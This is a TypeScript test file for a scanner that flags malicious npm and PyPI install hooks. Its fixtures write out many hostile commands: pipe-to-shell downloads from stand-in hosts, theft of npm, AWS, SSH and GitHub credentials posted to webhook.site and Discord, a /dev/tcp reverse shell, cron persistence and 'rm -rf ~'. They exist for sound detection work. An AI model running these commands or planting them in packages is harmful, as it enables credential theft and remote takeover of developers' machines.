import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyseInstallHooks, npmHookFiles, npmInstallHooks, npmInstallScriptFacts, referencedScriptFiles, type InstallHook } from './index.ts';

const hook = (content: string, name = 'postinstall', kind: InstallHook['kind'] = 'npm-lifecycle'): InstallHook => ({ kind, name, content });

test('npm hooks: lifecycle scripts, implicit node-gyp, declared flag; non-strings ignored', () => {
  const s = npmInstallHooks({ scripts: { preinstall: 'node pre.js', test: 'jest', postinstall: 42, prepare: 'husky install', install: '' } });
  assert.deepEqual(s.hooks.map((h) => h.name), ['preinstall', 'prepare']);
  assert.equal(s.nativeBuild, false);

  const gyp = npmInstallHooks({ gypfile: true, scripts: {} });
  assert.deepEqual(gyp.hooks, [{ kind: 'npm-native-build', name: 'binding.gyp', content: 'node-gyp rebuild' }]);
  assert.equal(gyp.nativeBuild, true);
  // An explicit install script replaces the implicit build.
  assert.equal(npmInstallHooks({ scripts: { install: 'prebuild-install || node-gyp rebuild' } }, { hasBindingGyp: true }).hooks.length, 1);
  assert.equal(npmInstallHooks({ hasInstallScript: true }).declaredInstallScript, true);
  for (const junk of [null, 'x', [], { scripts: [] }, { scripts: null }, { scripts: { ['__proto__']: 'x' } }]) {
    assert.deepEqual(npmInstallHooks(junk).hooks, []);
  }
});

test('behaviour rules: malicious install code is found with evidence', () => {
  const cases: [string, string, string][] = [
    // content, expected rule, expected severity
    ['curl -s https://evil.example/x.sh | sh', 'install.remote-exec.pipe-to-shell', 'critical'],
    ['wget -qO- http://e.example/i | sudo bash', 'install.remote-exec.pipe-to-shell', 'critical'],
    ['bash -c "$(curl -fsSL https://e.example/i.sh)"', 'install.remote-exec.shell-substitution', 'critical'],
    ['powershell -c "iwr https://a.example/p.ps1 | iex"', 'install.remote-exec.powershell-iex', 'critical'],
    ['powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'install.obfuscation.powershell-encoded', 'critical'],
    ['curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x', 'install.remote-exec.download-and-run', 'critical'],
    [`node -e "require('https').get('https://c.example/?d='+1)"`, 'install.remote-exec.node-eval-remote', 'critical'],
    ['node -e "fetch(\'https://x.example\').then(r=>r.text()).then(eval)"', 'install.remote-exec.node-eval-remote', 'critical'],
    ['curl -X POST http://45.9.148.108:8080/c -d "$(hostname)"', 'install.remote-fetch.raw-ip-url', 'high'],
    ['cat ~/.npmrc | curl -d @- https://x.example', 'install.credential-access.npm-token', 'critical'],
    ['echo $NPM_TOKEN', 'install.credential-access.npm-token', 'critical'],
    ['cat ~/.aws/credentials', 'install.credential-access.cloud-credentials', 'critical'],
    ['curl http://169.254.169.254/latest/meta-data/iam/', 'install.credential-access.cloud-metadata', 'critical'],
    ['tar cz ~/.ssh/id_rsa | nc x.example 9', 'install.credential-access.ssh-keys', 'critical'],
    ['cat /etc/passwd', 'install.credential-access.system-secrets', 'critical'],
    ['env | curl -d @- https://x.example', 'install.environment-dump.env-dump', 'high'],
    ['node -e "console.log(JSON.stringify(process.env))"', 'install.environment-dump.env-dump', 'high'],
    ['curl https://discord.com/api/webhooks/1/abc -d x', 'install.exfiltration-endpoint.collector', 'critical'],
    ['nslookup $(whoami).abc.oastify.com', 'install.exfiltration-endpoint.collector', 'critical'],
    ['echo ZWNobyBoaQo= | base64 -d | sh', 'install.obfuscation.base64-to-shell', 'critical'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'install.reverse-shell.reverse-shell', 'critical'],
    ['(crontab -l; echo "* * * * * curl x|sh") | crontab -', 'install.persistence.persistence', 'high'],
    ['rm -rf ~ ', 'install.destructive.destructive', 'high'],
  ];
  for (const [content, rule, severity] of cases) {
    const { findings } = analyseInstallHooks([hook(content)]);
    const f = findings.find((x) => x.rule === rule);
    assert.ok(f !== undefined, `${content} → ${rule}; got ${findings.map((x) => x.rule).join(', ')}`);
    assert.equal(f.severity, severity, content);
    assert.equal(f.source, 'postinstall');
    assert.ok(f.evidence.length > 0 && f.evidence.length <= 160);
  }
});

test('script bodies: obfuscated and credential-stealing JavaScript', () => {
  const blob = Buffer.from('x'.repeat(600)).toString('base64');
  const body = [
    "const https = require('https');",
    "const t = process.env.GITHUB_TOKEN;",
    `eval(Buffer.from('${blob}', 'base64').toString());`,
    "https.request({ host: 'webhook.site', path: '/abc' }).end(JSON.stringify(process.env));",
  ].join('\n');
  const { findings } = analyseInstallHooks([hook(body, 'install.js', 'script-file')]);
  const rules = new Set(findings.map((f) => f.rule));
  for (const rule of [
    'install.remote-fetch.node-network',
    'install.credential-access.git-credentials',
    'install.obfuscation.decode-and-eval',
    'install.obfuscation.long-base64',
    'install.exfiltration-endpoint.collector',
    'install.environment-dump.env-dump',
    'install.code-eval.eval',
  ]) {
    assert.ok(rules.has(rule), `${rule} in ${[...rules].join(', ')}`);
  }
  assert.equal(findings.find((f) => f.rule === 'install.credential-access.git-credentials')?.line, 2);
  assert.equal(findings[0]?.severity, 'critical', 'most severe first');
});

test('benign install scripts raise nothing above low', () => {
  const benign = [
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'husky install',
    'patch-package',
    'node install.js',
    'opencollective-postinstall || true',
    'node ./scripts/postinstall.js',
    'tsc -p .',
    "node -e \"try{require('./postinstall')}catch(e){}\"",
  ];
  for (const content of benign) {
    const { findings } = analyseInstallHooks([hook(content)]);
    const loud = findings.filter((f) => f.severity !== 'low' && f.severity !== 'info');
    assert.deepEqual(loud, [], content);
  }
  const esbuildLike = "const { execFileSync } = require('child_process');\nconst path = require('path');\nexecFileSync(process.execPath, [path.join(__dirname, 'bin', 'esbuild'), '--version']);";
  const f = analyseInstallHooks([hook(esbuildLike, 'install.js', 'script-file')]).findings;
  assert.deepEqual(f.map((x) => `${x.rule}:${x.severity}`), ['install.shell-exec.child-process:low']);
});

test('.pth startup hooks are reported only for .pth files', () => {
  const pth = 'import os, base64; exec(base64.b64decode("cHJpbnQoMSk="))\n';
  const rules = analyseInstallHooks([hook(pth, 'evil.pth', 'pypi-pth')]).findings.map((f) => f.rule);
  assert.ok(rules.includes('install.startup-hook.pth-import'));
  assert.ok(rules.includes('install.obfuscation.decode-and-eval'));
  assert.ok(!analyseInstallHooks([hook('import os', 'setup.py', 'pypi-setup-py')]).findings.some((f) => f.rule === 'install.startup-hook.pth-import'));
});

test('referenced files are found, normalised and confined to the package', () => {
  const files = referencedScriptFiles([
    hook('node install.js && node ./scripts/post.mjs'),
    hook('sh ./setup.sh; bash ../../etc/evil.sh; python3 /abs/x.py; ./bin/run'),
    hook('node-gyp rebuild', 'binding.gyp', 'npm-native-build'),
  ]);
  assert.deepEqual(files, ['bin/run', 'install.js', 'scripts/post.mjs', 'setup.sh']);
});

test('facts: the tarball file an install hook runs is analysed too', () => {
  const facts = npmInstallScriptFacts({
    manifest: { name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    files: new Map([['setup.js', "require('child_process').exec('curl https://e.example/p | sh')"]]),
  });
  assert.equal(facts.present, true);
  assert.deepEqual(facts.hooks, [{ kind: 'npm-lifecycle', name: 'postinstall', command: 'node setup.js' }]);
  assert.equal(facts.max_severity, 'critical');
  assert.ok(facts.categories.includes('remote-exec'));
  assert.equal(facts.findings[0]?.source, 'setup.js');
  const none = npmInstallScriptFacts({ manifest: { name: 'y' } });
  assert.deepEqual({ present: none.present, max: none.max_severity, findings: none.findings.length }, { present: false, max: 'none', findings: 0 });
});

test('facts: the hooks of bundled packages run in their own folder, and the files they run are analysed too', () => {
  const input = {
    manifest: { name: 'outer', version: '1.0.0', scripts: { postinstall: 'node own.js' } },
    bundled: new Map([
      ['node_modules/inner', { postinstall: 'node setup.js' }],
      ['node_modules/native', { install: 'node-gyp rebuild' }],
    ]),
  };
  assert.deepEqual(npmHookFiles(input), ['node_modules/inner/setup.js', 'node_modules/native/binding.gyp', 'own.js']);
  const facts = npmInstallScriptFacts({ ...input, files: new Map([['own.js', '// nothing'], ['node_modules/inner/setup.js', "require('child_process').exec('curl https://e.example/p | sh')"]]) });
  assert.deepEqual(facts.hooks.map((h) => h.name), ['postinstall', 'postinstall in node_modules/inner', 'install in node_modules/native']);
  assert.equal(facts.native_build, true);
  assert.equal(facts.max_severity, 'critical');
  assert.ok(facts.findings.some((f) => f.source === 'node_modules/inner/setup.js' && f.category === 'remote-exec'), JSON.stringify(facts.findings));
});

test('facts: a node-gyp build reads binding.gyp, whose command expansions run shell commands: it is analysed', () => {
  const gyp = '{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://e.example/p | sh)"] }] }';
  const implicit = { manifest: { name: 'x', version: '1.0.0' }, hasBindingGyp: true };
  assert.deepEqual(npmHookFiles(implicit), ['binding.gyp']);
  const facts = npmInstallScriptFacts({ ...implicit, files: new Map([['binding.gyp', gyp]]) });
  assert.equal(facts.max_severity, 'critical');
  assert.deepEqual(facts.findings.map((f) => [f.rule, f.source]).find(([r]) => r === 'install.remote-exec.pipe-to-shell'), ['install.remote-exec.pipe-to-shell', 'binding.gyp']);
  // An explicit node-gyp script reads it too; a plain one does not.
  assert.deepEqual(npmHookFiles({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }), ['binding.gyp']);
  assert.deepEqual(npmHookFiles({ manifest: { scripts: { install: 'node install.js' } } }), ['install.js']);
});

test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', () => {
  const limits = { maxContentChars: 1000, maxHooks: 2, maxFindings: 10 };
  const big = `${'# '.repeat(1000)} curl https://x.example | sh`;
  const r = analyseInstallHooks([hook(big), hook('x', 'prepare'), hook('y', 'install')], limits);
  assert.deepEqual(r.truncated, ['postinstall']);
  assert.equal(r.skipped, 1);
  assert.equal(r.findings.length, 0, 'the payload past the limit is not seen (and the cut is reported)');
  // Bounded repetition only: these finish quickly (a catastrophic pattern would hang the test).
  const hostile = [`curl ${'a'.repeat(200_000)}`, `${'\\x41'.repeat(100_000)}`, `${'A'.repeat(300_000)}`, `node -e ${'x'.repeat(200_000)}`, '|'.repeat(200_000)];
  for (const text of hostile) assert.ok(Array.isArray(analyseInstallHooks([hook(text)]).findings));
});
